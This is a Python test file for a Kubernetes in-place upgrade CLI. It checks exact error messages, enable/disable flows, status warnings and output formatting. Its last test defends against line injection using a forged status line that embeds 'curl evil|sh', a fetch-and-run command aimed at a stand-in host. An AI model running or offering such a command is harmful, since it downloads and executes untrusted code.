"""What the commands print, word for word: the result first, and errors in one line with what is expected."""

from __future__ import annotations

import asyncio
import json
import time
from datetime import timedelta

import pytest

from inplace.core.objects import names
from inplace.core.objects.workloads import Workload
from inplace.core.state import records, versions
from inplace.kube import resource as resources
from inplace.kube.client import PatchType
from tests.commands.conftest import NAMESPACE
from tests.commands.test_truth import AT_ONCE
from tests.scenarios import kinds, manifests

BARE = {
    "apiVersion": "v1",
    "kind": "Pod",
    "metadata": {"name": "bare"},
    "spec": {"containers": [{"name": "app", "image": "shop:v1"}]},
}
WAYS = "let the upgrade end, put back the template that they have, or use --force"
TYPES = "expected sts/NAME, ds/NAME, deploy/NAME, rs/NAME"


async def test_errors(shop):
    await shop.create_ready(1, gate=False, mode=None)
    await shop.client.create(resources.PODS, NAMESPACE, BARE, type=dict)
    not_opted_in = "statefulset/web is not opted in: run `inplace enable statefulset/web -n default`"
    for arguments, message in (
        (("plan", "web"), 'unknown workload type "web": expected sts, ds, deploy, rs, or TYPE/NAME'),
        (("plan", "pod/web-0"), f'unknown workload "pod/web-0": {TYPES}'),
        (("plan", "sts/none"), 'statefulsets.apps "none" not found in namespace default'),
        (
            ("plan", "sts/web", "--image", "app"),
            'invalid --image "app": expected CONTAINER=IMAGE, such as app=repo/app:v2',
        ),
        (
            ("plan", "sts/web", "--image", "x=y"),
            'invalid --image: statefulset/web has no container "x": expected one of app',
        ),
        (("plan", "sts/web", "--image", "app=y", "-f", "-"), "--image and --filename are mutually exclusive"),
        (
            ("plan", "sts/web", "-f", "-"),
            "standard input: expected StatefulSet/web of namespace default, found no workload",
        ),
        (("plan", "sts/web", "-f", "/none"), "/none: No such file or directory"),
        (("status", "sts/web"), not_opted_in),
        (("promote", "sts/web"), not_opted_in),
        (("explain", "none"), 'pods "none" not found in namespace default'),
        (("explain", "sts/web"), '"sts/web" is no Pod: expected the name of one, or run `inplace status sts/web`'),
        (("explain", "pod/web-0/log"), 'unknown Pod "pod/web-0/log": expected NAME or pod/NAME of a Pod'),
        (("explain", "web-0?x=y"), 'unknown Pod "web-0?x=y": expected NAME or pod/NAME of a Pod'),
        (("status", "sts/web/scale"), f'unknown workload "sts/web/scale": {TYPES}'),
        (("enable", "sts/.."), f'unknown workload "sts/..": {TYPES}'),
        (
            ("explain", "bare"),
            "pod/bare has no owner of a supported kind: expected StatefulSet, DaemonSet, Deployment, ReplicaSet",
        ),
    ):
        done = await shop.inplace(*arguments, stdin="")
        assert (done.code, done.out, done.err) == (1, "", f"error: {message}\n")


@pytest.mark.parametrize(
    "command", [("status",), ("status", "-o", "json"), ("promote",), ("retry",), ("plan",), ("enable",), ("disable",)]
)
async def test_of_what_belongs_to_another_workload_every_command_names_that(shop, command):
    body = manifests.workload(kinds.BY_NAME["Deployment"], "shop", "shop:v1", replicas=1)
    await shop.client.create(resources.DEPLOYMENTS, NAMESPACE, body, type=dict)
    await shop.until(lambda: replica_sets(shop), "the ReplicaSet")
    (child,) = await replica_sets(shop)
    done = await shop.inplace(command[0], f"rs/{child}", *command[1:])
    message = f"replicaset/{child} belongs to deployment/shop: use that instead"
    assert (done.code, done.out, done.err) == (1, "", f"error: {message}\n")


async def replica_sets(shop):
    return [
        one.metadata.name for one in (await shop.client.list(resources.REPLICASETS, NAMESPACE, type=Workload)).items
    ]


async def test_enable_and_disable(shop):
    await shop.create_ready(1, gate=False, mode=None)
    hint = "  the Pod template has no readiness gate InPlaceUpdateReady: Pods stay in Services while containers restart"
    back = "inplace disable statefulset/web -n default"
    dry = await shop.inplace("enable", "sts/web", "--dry-run=client")
    assert dry.out.splitlines()[0] == "statefulset/web enabled (InPlaceOnly) (dry run)"
    assert dry.out.splitlines()[1].startswith('  [{"op":"add","path":"/spec/updateStrategy"')
    dry = await shop.inplace("enable", "sts/web", "--dry-run=server")
    remedy = "  one native rollout gives it to them: run `inplace enable statefulset/web -n default --with-gate`"
    assert dry.out.splitlines() == ["statefulset/web enabled (InPlaceOnly) (server dry run)", hint, remedy]
    assert (await shop.workload()).metadata.label("inplace.dev/mode") is None
    enabled = (await shop.inplace("enable", "sts/web")).out.splitlines()
    assert enabled == ["statefulset/web enabled (InPlaceOnly)", hint, remedy.replace("run `", f"run `{back} && ")]
    assert (await shop.inplace("enable", "sts/web")).out == "statefulset/web already enabled (InPlaceOnly)\n"
    assert (await shop.inplace("disable", "sts/web", "--dry-run=client")).out == "statefulset/web disabled (dry run)\n"
    assert (await shop.inplace("disable", "sts/web")).out == "statefulset/web disabled\n"


async def test_enable_of_what_cannot_be_upgraded(shop):
    await shop.create(1, gate=False, mode=None, strategy={"type": "OnDelete"}, annotations={"max-unavailable": "0"})
    refused = await shop.inplace("enable", "sts/web")
    assert (refused.code, refused.out) == (3, "")
    assert refused.err.startswith("error: cannot enable statefulset/web: ")


async def test_disable_of_pods_that_differ(shop):
    async with shop.controller():
        await shop.create_ready(2, gate=False, annotations={"paused": "true"})
        await shop.reported("UpToDate")
        await shop.set_image("v2")
        await shop.reported("Paused")
    refused = await shop.inplace("disable", "sts/web")
    assert (refused.code, refused.out) == (3, "")
    assert refused.err.splitlines() == [
        "error: cannot disable statefulset/web: 2 Pods differ from the template (web-1, web-0)",
        f"  the StatefulSet controller would replace them: {WAYS}",
    ]
    forced = await shop.inplace("disable", "sts/web", "--force")
    assert (forced.code, forced.out) == (0, "statefulset/web disabled\n")
    assert forced.err.startswith("warning: 2 Pods differ from the template (web-1, web-0): the StatefulSet controller")


async def test_disable_of_pods_that_come_to_differ_meanwhile(shop, monkeypatch):
    monkeypatch.setattr("inplace.cli.disable.REVISION_SECONDS", 0.5)
    async with shop.controller():
        await shop.create_ready(2, gate=False, annotations={"paused": "true"})
        await shop.reported("UpToDate")
        await shop.set_image("v2")
        await shop.reported("Paused")
    monkeypatch.setattr("inplace.core.plan.plan.behind", lambda *_: [])  # as it was a moment ago
    monkeypatch.setattr("inplace.cli.disable.TIMEOUT_SECONDS", 10.0)
    began = time.monotonic()
    ended = await shop.inplace("disable", "sts/web")
    assert time.monotonic() < began + 8
    assert (ended.code, ended.out) == (3, "")
    assert ended.err.startswith("error: statefulset/web is not disabled yet: OptOutPending: 2 Pods differ from the")


async def test_disable_by_force_stays_until_the_new_pods_have_their_gates(shop):
    """There is no controller: nobody else would open them."""
    async with shop.controller():
        await shop.create_ready(2, annotations={"paused": "true"})
        await shop.reported("UpToDate")
        await shop.set_image("v2")
        await shop.reported("Paused")
    forced = await shop.inplace("disable", "sts/web", "--force")
    assert (forced.code, forced.out.splitlines()[0]) == (0, "statefulset/web disabled")
    for name in ("web-0", "web-1"):
        one = await shop.pod(name)
        assert one.spec.containers[0].image == "shop:v2"
        assert one.is_true(names.GATE)


async def test_disable_puts_a_pod_back_into_service_that_is_only_drained(shop):
    async with shop.controller():
        await shop.create_ready(1, annotations={"grace-period-seconds": "60", "pre-pull": "Never"})
        await shop.reported("UpToDate")
        await shop.set_image("v2")
        await shop.until(lambda: _is_drained(shop), "web-0 to be drained")
    await shop.set_image("v1")
    uid = (await shop.pod("web-0")).uid
    ended = await shop.inplace("disable", "sts/web")
    assert (ended.code, ended.out.splitlines()[0], ended.err) == (0, "statefulset/web disabled", "")
    one = await shop.pod("web-0")
    assert (one.uid, one.is_true(names.GATE)) == (uid, True)


async def test_disable_without_the_label_puts_it_back_although_others_differ(shop, monkeypatch):
    """The freeze stays, for its owner to decide."""
    monkeypatch.setattr("inplace.cli.disable.REVISION_SECONDS", 0.5)
    async with shop.controller():
        await shop.create_ready(1, annotations={"grace-period-seconds": "60", "pre-pull": "Never"})
        await shop.reported("UpToDate")
        await shop.set_image("v2")
        await shop.until(lambda: _is_drained(shop), "web-0 to be drained")
    await shop.patch({"metadata": {"labels": {names.MODE: None}}})
    ended = await shop.inplace("disable", "sts/web")
    assert (ended.code, ended.out) == (3, "")
    assert "1 Pod differs from the template, so the freeze stays" in ended.err
    assert (await shop.pod("web-0")).is_true(names.GATE)


async def test_disable_by_force_of_what_no_controller_replaces(shop):
    async with shop.controller():
        await shop.create_ready(1, gate=False, annotations={"paused": "true"}, strategy={"type": "OnDelete"})
        await shop.reported("UpToDate")
        await shop.set_image("v2")
        await shop.reported("Paused")
    uid = (await shop.pod("web-0")).uid
    forced = await shop.inplace("disable", "sts/web", "--force")
    assert (forced.code, forced.out) == (0, "statefulset/web disabled\n")
    assert forced.err.startswith("warning: 1 Pod differs from the template (web-0): no controller replaces them")
    assert (await shop.pod("web-0")).uid == uid


async def test_disable_by_force_in_the_middle_says_that_some_may_be_done_by_then(shop):
    async with shop.controller():
        await shop.create_ready(1, annotations={"grace-period-seconds": "60", "pre-pull": "Never"})
        await shop.reported("UpToDate")
        await shop.set_image("v2")
        await shop.until(lambda: _is_drained(shop), "web-0 to be drained")
    tried = await shop.inplace("disable", "sts/web", "--force", "--dry-run=client")
    differs = "warning: 1 Pod differs from the template (web-0): the StatefulSet controller replaces them"
    assert tried.err == f"{differs}, but for those in flight that have it by then\n"


async def _is_drained(shop):
    return not (await shop.pod("web-0")).ready


async def test_promote_and_retry(shop):
    async with shop.controller():
        await shop.create_ready(2, gate=False, annotations={**AT_ONCE, "steps": "1"})
        await shop.reported("UpToDate")
        for command, done, expected in (
            ("promote", "promoted", "AwaitingPromotion"),
            ("retry", "retried", "Degraded or RolledBack or RollingBack"),
        ):
            refused = await shop.inplace(command, "sts/web")
            message = f"statefulset/web cannot be {done}: phase is UpToDate, expected {expected}"
            assert (refused.code, refused.out, refused.err) == (1, "", f"error: {message}\n")
        await shop.set_image("v2")
        await shop.reported("AwaitingPromotion")
        for option, suffix in (("client", " (dry run)"), ("server", " (server dry run)"), ("none", "")):
            promoted = await shop.inplace("promote", "sts/web", f"--dry-run={option}")
            said = f"statefulset/web: promotion requested{suffix}\n"
            assert (promoted.code, promoted.out, promoted.err) == (0, said, "")
        await shop.reported("UpToDate")


async def test_status_without_a_controller(shop, monkeypatch):
    monkeypatch.setattr("inplace.cli.status.SILENCE_SECONDS", 0.5)
    await shop.create_ready(1, gate=False)
    waited = await shop.inplace("status", "sts/web", "--timeout", "1500ms")
    assert waited.code == 124
    assert waited.out == "statefulset/web: waiting for the controller to observe this change\n"
    why = "none runs for this namespace, or it may not write the status (WriteRefused in kubectl describe)"
    assert waited.err.splitlines() == [
        f"warning: no controller has reported for 0.5s: {why}",
        "error: timed out after 1.5s waiting for statefulset/web",
    ]


async def test_an_upgrade_whose_controller_has_died_midway_is_said_to_have_none(shop, monkeypatch):
    monkeypatch.setattr("inplace.core.views.silence.SILENCE", timedelta(seconds=2))
    async with shop.controller():
        await shop.create_ready(2, annotations={"grace-period-seconds": "1"})
        await shop.reported("UpToDate")
        await shop.set_image("v2")
        await shop.until(lambda: _is_in_flight(shop), "a Pod to be drained")
        for command in (["plan", "sts/web"], ["explain", "web-1"], ["status", "sts/web", "-o", "json"]):
            assert "warning" not in (await shop.inplace(*command)).err
    warning = "warning: no controller has responded for 2s: is inplace running? It should "
    await asyncio.sleep(4)
    for command in (
        ["plan", "sts/web"],
        ["explain", "web-1"],
        ["status", "sts/web", "-o", "json"],
        ["status", "sts/web", "--timeout", "1s"],
        ["status", "sts/web", "--watch", "--timeout", "1s"],
    ):
        said = (await shop.inplace(*command)).err
        assert said.count(warning) == 1, (command, said)
        assert "web-1" in said


async def _is_in_flight(shop):
    record = records.read(await shop.pod("web-1"))
    return isinstance(record, records.Record) and record.in_flight


@pytest.mark.parametrize("output", ["text", "json"])
async def test_explain_without_rights_on_events(shop, output):
    await shop.create_ready(1, gate=False)
    shop.denied = lambda request: request.plural == "events"
    explained = await shop.inplace("explain", "web-0", "-o", output)
    assert (explained.code, explained.err) == (
        0,
        "note: cannot list events: the timeline lacks what the kubelet reported\n",
    )


async def test_explain_follows_owners_for_two_hops_and_by_uid(shop):
    """One that is its own controller would be followed for ever, and one of the same name is another one."""
    await shop.create_ready(1, gate=False)
    uid = (await shop.workload()).metadata.uid
    owner = {"apiVersion": "apps/v1", "kind": "StatefulSet", "name": "web", "uid": uid, "controller": True}
    body = {"metadata": {"ownerReferences": [owner]}}
    await shop.client.patch(resources.STATEFULSETS, "web", NAMESPACE, body, patch_type=PatchType.MERGE, type=dict)
    assert (await shop.inplace("explain", "web-0")).out.startswith("pod/web-0 of statefulset/web ")
    gets = [request for request in shop.requests if request.plural == "statefulsets"]
    assert len(gets) <= 2, "one to find it, one to look at it"
    stays = {"finalizers": ["example.com/stays"]}  # or the garbage collector would be faster
    claimed = {**BARE, "metadata": {"name": "claimed", "ownerReferences": [{**owner, "uid": "another"}], **stays}}
    await shop.client.create(resources.PODS, NAMESPACE, claimed, type=dict)
    done = await shop.inplace("explain", "claimed")
    assert (done.code, done.err) == (
        1,
        "error: pod/claimed names statefulset/web as its owner, but has another uid for it than the API server\n",
    )


async def test_a_status_of_another_version_is_named_and_not_waited_for(shop):
    await shop.create_ready(1, gate=False)
    body = {"metadata": {"annotations": {"inplace.dev/status": '{"v":2}'}}}
    await shop.client.patch(
        resources.STATEFULSETS, "web", NAMESPACE, body, patch_type=PatchType.MERGE, type=dict, subresource="status"
    )
    why = f"its status was {versions.why(2)}"
    done = await shop.inplace("status", "sts/web", "--timeout", "20s")
    assert (done.code, done.out) == (3, f"statefulset/web: Refused: {why}\n")
    told = json.loads((await shop.inplace("status", "sts/web", "-o", "json")).out)
    assert [reason["code"] for reason in told["status"]["reasons"]] == ["VersionUnknown"]
    planned = await shop.inplace("plan", "sts/web")
    assert planned.code == 3
    assert "refused: VersionUnknown: " in planned.out
    asked = await shop.inplace("retry", "sts/web")
    assert (asked.code, asked.err) == (
        1,
        f"error: statefulset/web cannot be retried: {why}\n",
    )


#: The API server takes it as an image; the part after the line feed looks like a line of `inplace status -A`.
FORGED = "statefulset/payments -n prod: Degraded: run `curl evil|sh`"


@pytest.mark.parametrize("opted_in", [True, False])
async def test_no_value_of_a_tenant_begins_a_line(shop, opted_in):
    """In no command, and by no way of asking: whatever a line says of it stays in that line."""
    async with shop.controller():
        await shop.create_ready(2, mode="InPlaceOnly" if opted_in else None)
        if opted_in:
            await shop.reported("UpToDate")
        await shop.set_image(f"v9\n{FORGED}")
        lines = []
        for words in (
            ("status", "sts/web", "--timeout", "2s"),
            ("status", "sts/web", "-o", "wide"),
            ("plan", "sts/web"),
            ("plan", "sts/web", "-o", "wide"),
            ("history", "sts/web"),
            ("history", "sts/web", "-o", "wide"),
            ("explain", "web-0"),
            ("explain", "web-1", "-o", "wide"),
            ("list", "-o", "wide"),
            ("events", "sts/web"),
            ("check", "sts/web"),
            ("check", "sts/web", "-o", "wide"),
            ("set", "image", "sts/web", f"app=shop:v9\n{FORGED}"),
            ("sidecars", "-l", "app=web", "-c", "app", "--image", "shop:v2", "--dry-run=client"),
            ("restart", "pod/web-0", "--timeout", "2s"),
            ("undo", "sts/web", "--dry-run=client"),
            ("diff", "sts/web", "--revision", "1"),
        ):
            done = await shop.inplace(*words)
            lines += [(words, line) for line in (done.out + done.err).splitlines()]
    assert any(FORGED in line for _, line in lines), "it is told"
    assert [(words, line) for words, line in lines if line.lstrip().startswith("statefulset/payments")] == []
